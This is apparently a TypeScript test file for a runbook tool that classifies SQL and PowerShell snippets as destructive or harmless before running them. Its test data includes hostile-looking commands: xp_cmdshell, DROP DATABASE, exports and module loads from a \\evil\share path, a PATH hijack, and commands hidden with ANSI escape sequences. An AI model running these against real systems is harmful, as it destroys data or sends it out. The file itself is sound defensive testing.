/**
 * The classification table: each form of runbook text with the verdict a live run must reach
 * (destructive = shown and asked first). `probe` marks the forms the reliability probe found sent
 * without a question; they and the other destructive forms must never be judged harmless.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { PlanError } from '../../../src/core/recovery';
import { powershellIsDestructive, sqlIsDestructive } from '../../../src/core/recovery/classify';
import { FENCE, parse, plan, runbookText } from '../engine/support';

type Verdict = 'destructive' | 'harmless';
interface Form {
  readonly lang: 'sql' | 'powershell';
  readonly text: string;
  readonly verdict: Verdict;
  readonly probe?: true;
}

const D: Verdict = 'destructive';
const H: Verdict = 'harmless';
const ESC = '\x1b';

const SQL: readonly Omit<Form, 'lang'>[] = [
  // The probe's state-changing forms.
  { text: 'SET NOCOUNT ON\nRESTORE DATABASE [mgc] WITH RECOVERY', verdict: D, probe: true },
  { text: 'SET NOCOUNT ON RESTORE DATABASE [mgc] WITH RECOVERY', verdict: D, probe: true },
  { text: 'DECLARE @x int\nRESTORE DATABASE [mgc] WITH RECOVERY', verdict: D, probe: true },
  { text: "DECLARE @s nvarchar(max) = N'RESTORE DATABASE [mgc] WITH RECOVERY'\nEXEC (@s)", verdict: D, probe: true },
  { text: 'DECLARE @spid int = 55\nKILL 55', verdict: D, probe: true },
  { text: 'SET NOCOUNT ON\nALTER DATABASE [mgc] SET PARTNER OFF', verdict: D, probe: true },
  { text: 'SET NOCOUNT ON\nDROP DATABASE [mgc]', verdict: D, probe: true },
  { text: 'SELECT name FROM sys.databases\nSHUTDOWN WITH NOWAIT', verdict: D, probe: true },
  { text: 'SELECT 1\nTRUNCATE TABLE dbo.t', verdict: D, probe: true },
  { text: "SELECT 1\nDBCC CHECKDB (N'mgc', REPAIR_ALLOW_DATA_LOSS)", verdict: D, probe: true },
  { text: "USE [mgc]\nDBCC CHECKDB (N'mgc', REPAIR_ALLOW_DATA_LOSS)", verdict: D, probe: true },
  { text: 'SELECT 1\nGRANT CONTROL SERVER TO [litwareinc\\eve]', verdict: D, probe: true },
  { text: "WAITFOR DELAY '00:00:01'\nRECONFIGURE", verdict: D, probe: true },
  { text: 'SELECT * INTO dbo.copy FROM sys.databases', verdict: D, probe: true },
  { text: 'DECLARE @x int\nSELECT @x = 1\nUPDATE dbo.t SET a = @x', verdict: D, probe: true },
  { text: 'SET NOCOUNT ON\nDELETE FROM dbo.t', verdict: D, probe: true },
  // The forms the probe saw asked: still asked.
  { text: 'RESTORE DATABASE [mgc] WITH RECOVERY;', verdict: D },
  { text: "SELECT 1\nEXEC master..xp_cmdshell 'whoami'", verdict: D },
  { text: "PRINT 'x'\nUPDATE dbo.t SET a = 1", verdict: D },
  // Control flow, dynamic SQL, batches, comments, lexing traps.
  { text: "IF EXISTS (SELECT 1 FROM sys.databases WHERE name = N'mgc') KILL 55", verdict: D },
  { text: 'WHILE 1 = 1 SELECT 1', verdict: D },
  { text: 'BEGIN SELECT 1 END', verdict: D },
  { text: 'BEGIN TRY SELECT 1 END TRY BEGIN CATCH SELECT 2 END CATCH', verdict: D },
  { text: "EXEC sp_executesql N'SELECT 1'", verdict: D },
  { text: "EXEC ('SELECT 1')", verdict: D },
  { text: 'SELECT 1\nGO\nRESTORE DATABASE [mgc] WITH RECOVERY', verdict: D },
  { text: "SELECT 1\nGO\nsp_configure 'show advanced options', 1", verdict: D },
  { text: "SELECT 1 /* /* */ ' */ RESTORE DATABASE [mgc] WITH RECOVERY --'", verdict: D },
  { text: "SELECT [a]]'] RESTORE DATABASE [mgc] WITH RECOVERY --'", verdict: D },
  { text: 'SELECT 1SHUTDOWN', verdict: D },
  { text: 'SELECT 1 --x\rRESTORE DATABASE [mgc] WITH RECOVERY', verdict: D },
  { text: `RESTORE DATABASE [mgc] WITH RECOVERY; --${ESC}[2K${ESC}[1G    SELECT state_desc FROM sys.databases WHERE name = N'mgc';`, verdict: D },
  { text: `SELECT 1; -- ${ESC}[2K`, verdict: D },
  { text: "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;Trusted_Connection=yes;', 'EXEC sp_configure')", verdict: D },
  { text: 'WITH d AS (SELECT name FROM sys.databases) DELETE FROM dbo.t', verdict: D },
  { text: "EXECUTE AS LOGIN = 'sa'; SELECT 1", verdict: D },
  { text: "EXEC evil.dbo.sp_who", verdict: D },
  { text: "RESTORE LOG [mgc] FROM DISK = N'\\\\atl-fs-001\\logs\\mgc_1.trn' WITH NORECOVERY", verdict: D },
  { text: "BACKUP LOG [mgc] TO DISK = N'\\\\atl-fs-001\\logs\\tail.trn' WITH NORECOVERY", verdict: D },
  { text: "BACKUP LOG [mgc] TO DISK = N'\\\\atl-fs-001\\logs\\x.trn'", verdict: D },
  { text: "BACKUP DATABASE [mgc] TO DISK = N'\\\\atl-fs-001\\x.bak' WITH FORMAT", verdict: D },
  { text: 'SELECT NEXT VALUE FOR dbo.s', verdict: D },
  { text: 'CHECKPOINT', verdict: D },
  { text: '', verdict: D },
  { text: "SELECT 'unterminated", verdict: D },
  // Reads.
  { text: "SELECT state_desc FROM sys.databases WHERE name = N'mgc';", verdict: H },
  { text: "SET NOCOUNT ON\nSELECT state_desc FROM sys.databases WHERE name = N'mgc'", verdict: H },
  { text: 'SET TRANSACTION ISOLATION LEVEL READ UNCOMMITTED\nSELECT d.name, d.state_desc FROM sys.databases AS d WITH (NOLOCK) ORDER BY d.name', verdict: H },
  { text: "DECLARE @db sysname = N'mgc'\nSELECT TOP (1) restore_date FROM msdb.dbo.restorehistory WHERE destination_database_name = @db ORDER BY restore_date DESC", verdict: H },
  { text: "WITH s AS (SELECT name, CASE WHEN state = 1 THEN 'restoring' ELSE 'other' END AS st FROM sys.databases) SELECT * FROM s WHERE name IN (SELECT name FROM sys.databases)", verdict: H },
  { text: 'EXEC sp_who2\nEXEC master.dbo.sp_helpdb N\'mgc\'', verdict: H },
  { text: "sp_readerrorlog 0, 1, N'mgc'", verdict: H },
  { text: "RESTORE HEADERONLY FROM DISK = N'\\\\atl-fs-001\\logs\\mgc_1.trn' WITH NOUNLOAD", verdict: H },
  { text: "BACKUP DATABASE [mgc] TO DISK = N'\\\\atl-fs-001\\pchat\\mgc.bak' WITH INIT", verdict: H },
  { text: "BACKUP LOG [mgc] TO DISK = N'\\\\atl-fs-001\\logs\\copy.trn' WITH COPY_ONLY, STATS = 10", verdict: H },
  { text: "USE [mgc]\nGO\nSELECT name FROM sys.database_files -- RESTORE DATABASE [mgc] WITH RECOVERY\nGO 2", verdict: H },
  { text: "PRINT 'checked'; WAITFOR DELAY '00:00:05'; SELECT 1 UNION ALL SELECT 2", verdict: H },
];

const PS: readonly Omit<Form, 'lang'>[] = [
  // The probe's state-changing forms.
  { text: "Get-Date; [System.IO.File]::Delete('C:\\x.txt')", verdict: D, probe: true },
  { text: "[Diagnostics.Process]::Start('cmd.exe')", verdict: D, probe: true },
  { text: 'Get-ChildItem C:\\x | ForEach-Object Delete', verdict: D, probe: true },
  { text: 'Get-ChildItem C:\\x | ForEach-Object { $_.Delete() }', verdict: D, probe: true },
  { text: "Get-Date; & 'Set-CsPersistentChatState' -Identity 'PersistentChatServer:atl-gc-001.litwareinc.com' -PoolState FailedOver", verdict: D, probe: true },
  { text: 'Get-Date | Out-File C:\\x.txt', verdict: D, probe: true },
  { text: 'Get-CsTopology -AsXml | Out-File \\\\evil\\share\\t.xml', verdict: D, probe: true },
  { text: 'Get-Date > C:\\x.txt', verdict: D, probe: true },
  { text: 'Import-Module \\\\evil\\share\\x.psm1', verdict: D, probe: true },
  { text: "$env:PATH = 'C:\\evil'", verdict: D, probe: true },
  // Other ways to act.
  { text: "Set-CsPersistentChatState -Identity 'PersistentChatServer:atl-gc-001.litwareinc.com' -PoolState FailedOver", verdict: D },
  { text: '. \\\\evil\\share\\x.ps1', verdict: D },
  { text: "$c = 'Remove-Item'; & $c C:\\x", verdict: D },
  { text: "iex 'Remove-Item C:\\x'", verdict: D },
  { text: "Invoke-Expression 'Remove-Item C:\\x'", verdict: D },
  { text: 'Start-Process cmd.exe', verdict: D },
  { text: "Set-Content -Path C:\\x.txt -Value 'x'", verdict: D },
  { text: 'Get-Date >> C:\\x.txt', verdict: D },
  { text: 'Get-Date | Tee-Object -FilePath C:\\x.txt', verdict: D },
  { text: "$p = @{ Identity = 'x' }; Get-CsPool @p", verdict: D },
  { text: 'Get-ChildItem C:\\x | ForEach-Object -MemberName Delete', verdict: D },
  { text: 'rm C:\\x', verdict: D },
  { text: 'function Get-Pools { Remove-Item C:\\x }; Get-Pools', verdict: D },
  { text: 'Write-Host "now $(Remove-Item C:\\x)"', verdict: D },
  { text: '$sb = { Remove-Item C:\\x }', verdict: D },
  { text: '$global:x = 1', verdict: D },
  { text: "try { Get-CsPool } catch { Write-Host 'x' }", verdict: D },
  { text: `Set-CsPersistentChatState -PoolState Normal #${ESC}[8D${ESC}[0KFailedOver`, verdict: D },
  { text: `Get-CsPool # ${ESC}[2K`, verdict: D },
  { text: 'Get-CsPool -Identity (', verdict: D },
  { text: '<#\nRemove-Item C:\\x\n#>\nGet-CsPool', verdict: D },
  { text: '$note = @"\nRemove-Item C:\\x\n"@', verdict: D },
  // Reads.
  { text: 'Get-CsPool', verdict: H },
  { text: "Get-CsPool -Identity 'atl-gc-001.litwareinc.com' | Where-Object { $_.Site -eq 'dal' } | Select-Object -ExpandProperty Fqdn", verdict: H },
  { text: '$pools = Get-CsPool; $pools.Count; $pools[0].Fqdn', verdict: H },
  { text: "if (Test-Path C:\\x) { Get-Item C:\\x } else { Write-Warning 'missing' }", verdict: H },
  { text: 'Get-CsPersistentChatActiveServer | ForEach-Object { $_.Identity } | Sort-Object | Format-Table', verdict: H },
  { text: 'Write-Host "now $(Get-Date)"; [DateTime]::Now', verdict: H },
  { text: 'Get-CsDatabaseMirrorState -PoolFqdn atl-gc-001.litwareinc.com 2>&1 | Out-String', verdict: H },
  { text: 'Get-Date > $null', verdict: H },
  { text: '# only a comment\nTest-CsDatabase -ConfiguredDatabases -SqlServerFqdn atl-sql-001.litwareinc.com | Measure-Object', verdict: H },
];

const FORMS: readonly Form[] = [...SQL.map((f) => ({ ...f, lang: 'sql' as const })), ...PS.map((f) => ({ ...f, lang: 'powershell' as const }))];

/**
 * The classifier's verdict on the parsed block; where the planner accepts the runbook, its action
 * must carry the same verdict. (The planner refuses some destructive blocks outright — variables or
 * control flow in a block sent one statement per request — which is safer still.)
 */
async function verdictOf(form: Form): Promise<Verdict> {
  const fence = form.lang === 'sql' ? 'sql on=backup' : 'powershell';
  const text = runbookText(`## One\n${FENCE}${fence}\n${form.text}\n${FENCE}`);
  const parsed = (await parse(text)).steps[0]!.actions[0]!;
  const destructive = parsed.kind === 'sql' ? sqlIsDestructive(parsed) : parsed.kind === 'powershell' && powershellIsDestructive(parsed);
  const planned = await plan(text).catch((e: unknown) => {
    if (e instanceof PlanError && destructive) return undefined;
    throw e;
  });
  if (planned) assert.equal(planned.steps[0]!.actions[0]!.destructive, destructive, 'the planned action carries the classifier verdict');
  return destructive ? 'destructive' : 'harmless';
}

describe('classification: destructive unless proven harmless', () => {
  it('has at least 60 forms, the probe’s 26 among them', () => {
    assert.ok(FORMS.length >= 60, `${FORMS.length} forms`);
    assert.equal(FORMS.filter((f) => f.probe).length, 26);
  });

  for (const form of FORMS) {
    it(`${form.lang} ${JSON.stringify(form.text)} is ${form.verdict}`, async () => {
      assert.equal(await verdictOf(form), form.verdict);
    });
  }
});
